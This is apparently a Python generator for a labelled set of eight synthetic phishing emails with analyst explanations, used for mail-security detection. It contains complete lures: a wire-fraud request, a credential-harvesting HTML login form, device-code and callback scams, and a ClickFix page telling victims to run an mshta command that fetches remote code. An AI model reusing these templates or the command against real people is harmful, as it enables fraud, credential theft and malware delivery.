"""Attack messages, English (8)."""
from kit import *


def a_fake_lawyer():
    m = Mail("attack", "en", "fake-lawyer-escrow-project-nordlicht",
             "'Henrik Lindqvist, Partner, Bramwell Ashford LLP' follows up the fake CEO mail: EUR 487,500 "
             "exclusivity deposit for 'Project Nordlicht' into a UK client account by noon tomorrow",
             "Stage 2 of the CEO fraud in attack 01: unknown law firm on a freshly registered domain hosted on "
             "Namecheap Private Email, GB IBAN 'client account', strict secrecy invoking market-abuse rules, "
             "hard deadline, asks for the payment confirmation (MT103) by reply.",
             pair=["solicitor-lease-renewal"])
    I = Ids(m.slug)
    t = utc(2026, 10, 15, 17, 31, 9)
    send(SV.privateemail, m, I, t, ("Henrik Lindqvist", "h.lindqvist@bramwellashfordllp.com"), [S("cfo")],
         "Project Nordlicht – escrow instructions (strictly private & confidential)")
    body = """Dear Ms Weiß,

Further to Dr Höfer's instructions earlier today, I write as counsel to Example Group GmbH in the matter referred to internally as Project Nordlicht.

As you will be aware, the sellers have agreed to grant exclusivity subject to receipt of a refundable deposit of EUR 487,500.00. The deposit is to be held in our firm's segregated client account pending signing and will be credited in full against the purchase price at completion. Should the transaction not proceed, the funds will be returned to Example Group within five business days.

Payment details:

Account name: Bramwell Ashford LLP – Client Account
Bank: ClearBank Ltd, London
IBAN: %s
BIC: CLRBGB22
Reference: NORD-2026-EX-0417

To preserve the exclusivity period, funds must be received by 12:00 CET tomorrow, 16 October. I would be grateful if you could confirm by reply once the transfer has been initiated and forward the payment confirmation (MT103) so that we can notify the sellers' counsel.

Given that the target is subject to a pending regulatory review and the matter falls under the NDA signed by Dr Höfer, I must ask that this is not discussed with anyone other than Dr Höfer and myself until the public announcement.

Kind regards,

Henrik Lindqvist
Partner – Corporate & M&A
Bramwell Ashford LLP
33 Cavendish Square, London W1G 0PW
T +44 20 3966 4172

Bramwell Ashford LLP is a limited liability partnership registered in England and Wales (OC431876), authorised and regulated by the Solicitors Regulation Authority (SRA no. 8001247). This e-mail is confidential and may be legally privileged.
""" % iban_fmt(BANK["att_lawyer"])
    m.body = alt(text(body, "UTF-8", "quoted-printable", qcs=False),
                 html(html_simple(body, "UTF-8"), "UTF-8", "quoted-printable", qcs=False))
    return m


def a_docusign_abuse():
    m = Mail("attack", "en", "docusign-abused-genuine-envelope",
             "Genuine DocuSign envelope 'Please DocuSign: NPS Remittance Statement & Supplier Banking "
             "Confirmation Q4-2026' from 'Northern Pet Supplies Ltd – Accounts'",
             "Sent through DocuSign's real infrastructure by a free account: the sender address inside the "
             "envelope and the Reply-To are northernpetsupplies-uk.com, a look-alike of the customer's "
             "real domain northernpetsupplies.co.uk; the sender note pushes a Microsoft 365 sign-in on that "
             "look-alike domain ('statement held on our secure SharePoint').",
             pair=["docusign-envelope-genuine"])
    I = Ids(m.slug)
    t = utc(2026, 11, 11, 14, 22, 5, zone="UK")
    (ctx, env) = SV.docusign(m, I, t, "Northern Pet Supplies Ltd", [S("mgr_uk")],
                             "Please DocuSign: NPS Remittance Statement & Supplier Banking Confirmation Q4-2026",
                             ("Accounts Payable – Northern Pet Supplies", "accounts@northernpetsupplies-uk.com"))
    m.ctx = ctx
    note = ("Hi Oliver,\n\nPlease review and sign our Q4 remittance statement and the supplier banking confirmation "
            "for the 2027 contract year. The supporting statement is held on our secure SharePoint – sign in with "
            "your Microsoft 365 account to view it:\nhttps://northernpetsupplies-uk.com/remittance/Q4-2026/view\n\n"
            "We need the signed copy back by Friday to release the December payment run.\n\nThanks,\nAccounts Payable")
    plain, h, _ = SV.docusign_texts(I, env, "Northern Pet Supplies Ltd", "accounts@northernpetsupplies-uk.com",
                                    "NPS Remittance Statement", note)
    m.body = alt(text(plain, "utf-8", "quoted-printable"), html(h, "utf-8", "quoted-printable"))
    return m


def a_html_remittance():
    m = Mail("attack", "en", "html-attachment-remittance-m365-login",
             "'Remittance advice – payment of GBP 14,862.40' from a plumbing firm with an HTML attachment "
             "that renders a Microsoft sign-in page pre-filled with the recipient's address",
             "No business relation with the sender (compromised cPanel mailbox of a small UK firm, webmail "
             "used from a foreign IP); the HTML attachment is a credential-harvesting form posting to a "
             "workers.dev endpoint; lure = unexpected incoming payment.",
             pair=["microsoft-sspr-password-reset"])
    I = Ids(m.slug)
    t = utc(2026, 11, 3, 15, 41, 27, zone="UK")
    send(P.roundcube, m, I, t, ("Brightwell Plumbing & Heating Ltd", "accounts@brightwellplumbing.co.uk"),
         [S("acc_uk")], "Remittance Advice - Payment Ref 20261103-4471", server="lon-sh14.ukwebhosting.net",
         client_ip="102.90.%d.%d" % (I.int(1, 250), I.int(1, 250)),
         mx_client=("lon-sh14.ukwebhosting.net", "lon-sh14.ukwebhosting.net", "185.151.%d.%d" % (I.int(28, 31), I.int(2, 250))),
         zone="UK")
    body = """Good afternoon,

Please find attached remittance advice for the payment made to your account today.

Kind regards,

Accounts Department
Brightwell Plumbing & Heating Ltd
"""
    rc = S("acc_uk")[1]
    page = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>Remittance Advice 20261103-4471 – Secure view</title>
<style>
body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f2f2f2}
.doc{filter:blur(3px);max-width:760px;margin:30px auto;background:#fff;padding:40px;color:#333}
.doc td{padding:6px 12px;border-bottom:1px solid #ddd}
.box{position:fixed;top:80px;left:50%%;margin-left:-220px;width:440px;background:#fff;box-shadow:0 2px 6px rgba(0,0,0,.3);padding:44px}
.box input{width:100%%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;margin:10px 0 18px 0}
.btn{background:#0067b8;color:#fff;border:0;padding:8px 32px;font-size:15px;float:right}
</style></head><body>
<div class="doc"><h2>REMITTANCE ADVICE</h2><p>Payment reference 20261103-4471 &middot; BACS</p>
<table><tr><td>Invoice</td><td>Date</td><td>Amount</td></tr><tr><td>EG-UK-26-1187</td><td>14/10/2026</td><td>&pound;9,420.00</td></tr>
<tr><td>EG-UK-26-1214</td><td>21/10/2026</td><td>&pound;5,442.40</td></tr><tr><td></td><td>Total</td><td>&pound;14,862.40</td></tr></table></div>
<div class="box">
<div style="font-size:18px;color:#5e5e5e"><span style="color:#f25022">&#9632;</span><span style="color:#7fba00">&#9632;</span><span style="color:#00a4ef">&#9632;</span><span style="color:#ffb900">&#9632;</span> Microsoft</div>
<h3 style="font-weight:600;margin:16px 0 4px 0">Sign in to view document</h3>
<p style="font-size:13px;color:#444">This document is protected. Verify your work account to continue.</p>
<form method="post" action="https://remit-view.brightwell-docs.workers.dev/auth">
<input type="email" name="login" value="%s" readonly>
<input type="password" name="passwd" placeholder="Password" required>
<input type="hidden" name="ref" value="20261103-4471">
<button class="btn" type="submit">Sign in</button>
</form>
<p style="font-size:13px;clear:both;padding-top:16px"><a href="#" style="color:#0067b8">Forgot my password</a></p>
</div></body></html>
""" % rc
    m.body = mixed(text(body, "UTF-8", "7bit", flowed=True, qcs=False),
                   att(page.encode("utf-8"), "text/html", "Remittance_Advice_20261103-4471.html"))
    m.body.parts[1].charset = None
    m.body.parts[1].ct_params = ""
    return m


def a_svg_voicemail():
    m = Mail("attack", "en", "svg-attachment-voicemail",
             "'New voicemail (0:47)' notification with an SVG 'audio player' attachment whose play button "
             "links to a Firebase-hosted page",
             "Voicemail lure from an unrelated domain via Amazon SES; the company's telephony does not send "
             "voicemail as SVG; the SVG is an HTML-capable image whose only function is the link to a "
             "credential page (victim address in the URL) on web.app.",
             pair=[])
    I = Ids(m.slug)
    t = utc(2026, 11, 10, 14, 6, 40, zone="UK")
    rc = S("mgr_uk")
    send(P.ses, m, I, t, ("Voicemail Service", "voicemail@vm-notify-teams.com"), [rc],
         "\U0001F50A New voicemail from +44 113 496 0721 (0:47)", mailfrom="bounce.vm-notify-teams.com")
    url = "https://vm-play-teams.web.app/listen?m=VM-0047-%s&u=%s" % (I.hex(8), rc[1])
    body = """You have received a new voicemail.

From: +44 113 496 0721
Received: Tue 10 Nov 2026 14:05
Duration: 0:47

The message is attached to this e-mail. Open the attachment to play it in your browser.

Voicemail Service
"""
    h = """<html><body style="font-family:'Segoe UI',Arial,sans-serif;font-size:14px;color:#242424">
<p><b>You have received a new voicemail.</b></p>
<table cellpadding="4"><tr><td style="color:#616161">From:</td><td>+44 113 496 0721</td></tr>
<tr><td style="color:#616161">Received:</td><td>Tue 10 Nov 2026 14:05</td></tr>
<tr><td style="color:#616161">Duration:</td><td>0:47</td></tr></table>
<p>The message is attached to this e-mail. Open the attachment to play it in your browser.</p>
<p style="color:#616161">Voicemail Service</p></body></html>
"""
    bars = "".join('<rect x="%d" y="%d" width="5" height="%d" rx="2" fill="#6264a7"/>' % (
        150 + i * 9, 150 - hgt // 2, hgt) for i, hgt in enumerate(
        [I.int(8, 60) for _ in range(48)]))
    svg = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="640" height="260" viewBox="0 0 640 260">
<rect width="640" height="260" rx="14" fill="#f5f5f5" stroke="#e0e0e0"/>
<text x="32" y="50" font-family="Segoe UI, Arial, sans-serif" font-size="21" fill="#242424">Voice message</text>
<text x="32" y="78" font-family="Segoe UI, Arial, sans-serif" font-size="14" fill="#616161">+44 113 496 0721 &#183; 0:47 &#183; Tue 10 Nov 2026 14:05</text>
<a xlink:href="%s" href="%s" target="_blank">
<circle cx="80" cy="150" r="38" fill="#6264a7"/>
<polygon points="68,130 68,170 100,150" fill="#ffffff"/>
%s
<text x="32" y="230" font-family="Segoe UI, Arial, sans-serif" font-size="14" fill="#6264a7" text-decoration="underline">Play message in browser</text>
</a>
</svg>
""" % (url.replace("&", "&amp;"), url.replace("&", "&amp;"), bars)
    m.body = mixed(alt(text(body, "UTF-8", "7bit"), html(h, "UTF-8", "7bit")),
                   att(svg.encode("utf-8"), "image/svg+xml", "VM_0047_+441134960721.svg"))
    return m


def a_toad_callback():
    m = Mail("attack", "en", "callback-phishing-m365-renewal-pdf",
             "'Microsoft 365 Business Premium renewal processed – GBP 1,349.88' with a PDF invoice; "
             "to dispute, call the billing support number within 24 hours",
             "Telephone-oriented attack delivery (TOAD): no link or malware, the payload is the phone "
             "number; sent from a Gmail address to undisclosed recipients; Microsoft bills from its own "
             "domains and the company is invoiced in EUR by its reseller; caller then installs remote access.",
             pair=["microsoft-sspr-password-reset"])
    I = Ids(m.slug)
    t = utc(2026, 11, 24, 10, 12, 55, zone="UK")
    send(P.gmail, m, I, t, ("Microsoft 365 Billing", "m365.billing.renewals.desk@gmail.com"), [S("acc_uk")],
         "Your Microsoft 365 Business Premium renewal has been processed – Invoice INV-UK-884127",
         zone="UK", bcc_style=True)
    body = """Dear Customer,

Thank you for renewing your Microsoft 365 Business Premium subscription. Your payment has been processed successfully and your licences have been extended for another 12 months.

Invoice number: INV-UK-884127
Product: Microsoft 365 Business Premium (25 licences, annual)
Amount charged: GBP 1,349.88
Payment method: Visa ending 4417

Your invoice is attached to this e-mail. The charge will appear on your statement as "MSFT*M365 RENEWAL".

If you did not authorise this renewal or would like to cancel and receive a full refund, please contact our Billing Support within 24 hours on +44 20 3807 1946 (Mon–Sat, 8am–8pm). After this period the renewal can no longer be reversed.

Kind regards,
Microsoft 365 Billing Team
"""
    inv = pdf([("h", "Microsoft 365 – Subscription Invoice"),
               ("t", "Billing Operations · Reading RG6 1WG · United Kingdom"), ("r", ""),
               ("m", "Invoice no.:     INV-UK-884127"),
               ("m", "Invoice date:    24/11/2026"),
               ("m", "Order ID:        M365-7741-2290-5513"), ("", ""),
               ("m", "Description                                   Qty      Amount"),
               ("m", "Microsoft 365 Business Premium (annual)        25   GBP 1,124.90"),
               ("m", "VAT 20%                                              GBP   224.98"),
               ("m", "Total charged to Visa ****4417                       GBP 1,349.88"), ("", ""),
               ("b", "Did not authorise this payment?"),
               ("t", "Call Billing Support within 24 hours to cancel and receive a full refund:"),
               ("h", "+44 20 3807 1946"),
               ("t", "Mon–Sat, 8am–8pm. Have your invoice number ready."), ("", ""),
               ("s", "This is a system generated invoice. No signature is required.")],
              title="Invoice INV-UK-884127", producer="iLovePDF", creator="Microsoft Word",
              date="D:20261124095511Z")
    m.body = mixed(alt(text(body, "UTF-8", "quoted-printable"),
                       html(html_gmail(body), "UTF-8", "quoted-printable")),
                   att(inv, "application/pdf", "Invoice_INV-UK-884127.pdf", style="2047"))
    return m


def a_device_code():
    m = Mail("attack", "en", "device-code-phish-compromised-customer",
             "Genuine customer mailbox (Northern Pet Supplies) shares a '2027 price revision' that is opened "
             "by entering code HQ7KX2P4M at microsoft.com/devicelogin",
             "Device-code phishing (Storm-2372 style): the link is Microsoft's real device-login page, but the "
             "code was generated by the attacker, so signing in hands the attacker tokens for the victim's "
             "account; sent from the customer's genuinely compromised Microsoft 365 mailbox; 15-minute pressure; "
             "no real document sharing works with device codes.",
             pair=["customer-complaint-photo"])
    I = Ids(m.slug)
    t = utc(2026, 11, 20, 11, 7, 18, zone="UK")
    send(P.exo, m, I, t, ("Gareth Evans", "gareth.evans@northernpetsupplies.co.uk"), [S("mgr_uk")],
         "Shared: 2027 price revision & listing agreement – secure access", lang="en-GB", hcs="utf-8",
         region="eurprd03", pod="DB9PR03MB")
    body = """Hi Oliver,

As discussed on the phone last week, I've shared the draft 2027 price revision and the updated listing agreement through our Microsoft 365 document portal. As the file contains commercial terms it's protected with a one-time access code.

To open it:
1. Go to https://microsoft.com/devicelogin
2. Enter the code HQ7KX2P4M
3. Sign in with your Example Group account when prompted

The code is only valid for 15 minutes, so if it has expired just reply and I'll send you a new one.

Cheers,
Gareth

Gareth Evans
Category Buyer – Pet Health
Northern Pet Supplies Ltd
Clifton Moor Industrial Estate, York YO30 4XL
"""
    m.body = outlook_alt(body, "utf-8", "quoted-printable", "EN-GB")
    return m


def a_regulator_vmd():
    m = Mail("attack", "en", "regulator-vmd-wda-suspension-mailgun",
             "'Veterinary Medicines Directorate' warns that the Wholesale Dealer's Authorisation will be "
             "suspended unless the 2026 annual sales return is submitted via the 'VMD portal'",
             "Regulator impersonation: the VMD is on gov.uk, this domain is vmd-gov-services.uk and the mail "
             "comes through Mailgun; suspension threat with short deadline; link to a look-alike login.",
             pair=[])
    I = Ids(m.slug)
    t = utc(2026, 11, 26, 8, 45, 2, zone="UK")
    send(P.mailgun, m, I, t, ("Veterinary Medicines Directorate", "no-reply@vmd-gov-services.uk"), [S("mgr_uk")],
         "Action required: WDA(V) 41872 – 2026 annual sales return overdue", mgdom="mg.vmd-gov-services.uk")
    link = "https://portal.vmd-gov-services.uk/login?ref=WDA41872&r=%s" % I.hex(12)
    body = """Veterinary Medicines Directorate

Dear Authorisation Holder,

Wholesale Dealer's Authorisation (Veterinary): WDA(V) 41872
Holder: Example Group UK Ltd

Our records show that the 2026 annual return of sales of antimicrobial veterinary medicinal products for the above authorisation has not yet been received.

Under the Veterinary Medicines Regulations 2013 (as amended 2024), authorisation holders must submit sales data through the VMD Portal. If the return and the annual maintenance fee of £318.00 are not received by 4 December 2026, the authorisation will be suspended and supplies of POM-V and POM-VPS products will have to cease until it is reinstated.

Submit your return: %s

Please sign in with the e-mail address registered for your authorisation. If you have already submitted your return, please disregard this message.

Yours faithfully,

Authorisations Team
Veterinary Medicines Directorate
Woodham Lane, New Haw, Addlestone, Surrey KT15 3LS
""" % link
    h = """<html><body style="margin:0;font-family:Arial,sans-serif;font-size:16px;color:#0b0c0c">
<div style="background:#0b0c0c;color:#fff;padding:14px 24px;font-weight:bold;font-size:20px">Veterinary Medicines Directorate</div>
<div style="max-width:600px;padding:24px">
<p>Dear Authorisation Holder,</p>
<p style="border-left:8px solid #b1b4b6;padding-left:12px">Wholesale Dealer's Authorisation (Veterinary): <b>WDA(V) 41872</b><br>Holder: Example Group UK Ltd</p>
<p>Our records show that the 2026 annual return of sales of antimicrobial veterinary medicinal products for the above authorisation has not yet been received.</p>
<p>Under the Veterinary Medicines Regulations 2013 (as amended 2024), authorisation holders must submit sales data through the VMD Portal. If the return and the annual maintenance fee of &pound;318.00 are not received by <b>4 December 2026</b>, the authorisation will be suspended and supplies of POM-V and POM-VPS products will have to cease until it is reinstated.</p>
<p><a href="%s" style="background:#00703c;color:#fff;padding:10px 18px;text-decoration:none;display:inline-block">Submit your return</a></p>
<p>Please sign in with the e-mail address registered for your authorisation. If you have already submitted your return, please disregard this message.</p>
<p>Yours faithfully,<br><br>Authorisations Team<br>Veterinary Medicines Directorate<br>Woodham Lane, New Haw, Addlestone, Surrey KT15 3LS</p>
</div></body></html>
""" % link
    m.body = alt(text(body, "utf-8", "quoted-printable"), html(h, "utf-8", "quoted-printable"))
    return m


def a_clickfix():
    m = Mail("attack", "en", "clickfix-customs-declaration-html",
             "'HMRC Customs Declaration Service': import declaration of a pet-food consignment held, "
             "open the attached declaration review which asks to 'verify you are human' via Win+R / Ctrl+V",
             "ClickFix: the HTML attachment instructs the user to paste and run an mshta command in the "
             "Windows Run dialog (fake reCAPTCHA); HMRC never sends such files; sender domain is not gov.uk; "
             "mailed via Brevo.",
             pair=[])
    I = Ids(m.slug)
    t = utc(2026, 12, 1, 9, 58, 30, zone="UK")
    send(P.brevo, m, I, t, ("HMRC Customs Declaration Service", "cds-notifications@hmrc-cds-support.co.uk"),
         [S("acc_uk")], "CDS: import declaration 26GB71KXQ3PW9D2M4A held – action required")
    body = """HM Revenue & Customs
Customs Declaration Service (CDS)

Movement Reference Number (MRN): 26GB71KXQ3PW9D2M4A
Importer: EXAMPLE GROUP UK LTD (EORI GB 402 7718 93000)
Consignment: 14 pallets pet food / veterinary consumables, origin DE (Bielefeld)
Status: HELD – DOCUMENTS REQUIRED

Your import declaration could not be cleared automatically. Import VAT and duty of £4,812.60 remain outstanding and the goods are held at the border facility. Storage charges apply from the third working day.

Please open the attached declaration review and confirm the details within 48 hours to avoid the goods being returned to the consignor.

This is an automatically generated message. Please do not reply.
"""
    cmd = ("mshta https://cds-verify-hmrc.com/recaptcha/verify.hta "
           "# I am not a robot - reCAPTCHA Verification ID: 7731")
    page = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>CDS – Declaration review 26GB71KXQ3PW9D2M4A</title>
<style>body{font-family:Arial,sans-serif;background:#f3f2f1;margin:0}
.hdr{background:#0b0c0c;color:#fff;padding:12px 24px;font-weight:bold}
.card{max-width:520px;margin:40px auto;background:#fff;border:1px solid #d6d6d6;padding:28px}
.cap{border:1px solid #d3d3d3;background:#f9f9f9;padding:14px;display:flex;align-items:center}
.cb{width:26px;height:26px;border:2px solid #c1c1c1;background:#fff;margin-right:14px}
pre{background:#eee;border:1px solid #ccc;padding:10px;white-space:pre-wrap;font-size:12px}</style></head>
<body><div class="hdr">GOV.UK &nbsp; HM Revenue &amp; Customs</div>
<div class="card"><h2 style="margin-top:0">Declaration review</h2>
<p>MRN 26GB71KXQ3PW9D2M4A – to protect declarant data, please verify you are human before the declaration is displayed.</p>
<div class="cap"><div class="cb"></div><div>I'm not a robot</div><div style="margin-left:auto;font-size:10px;color:#555;text-align:center">reCAPTCHA<br>Privacy - Terms</div></div>
<h3>Verification steps</h3>
<ol><li>Press <b>Windows&nbsp;+&nbsp;R</b></li><li>Copy the verification code below and paste it with <b>CTRL&nbsp;+&nbsp;V</b></li><li>Press <b>Enter</b></li></ol>
<pre>%s</pre>
<p style="font-size:12px;color:#555">After verification the declaration will open automatically in your browser.</p>
</div></body></html>
""" % cmd
    m.body = mixed(alt(text(body, "utf-8", "quoted-printable"), html(html_simple(body), "utf-8", "quoted-printable")),
                   att(page.encode("utf-8"), "text/html", "CDS_Declaration_26GB71KXQ3PW9D2M4A.html"))
    m.body.parts[1].charset = None
    return m


MESSAGES = [a_fake_lawyer, a_docusign_abuse, a_html_remittance, a_svg_voicemail, a_toad_callback,
            a_device_code, a_regulator_vmd, a_clickfix]
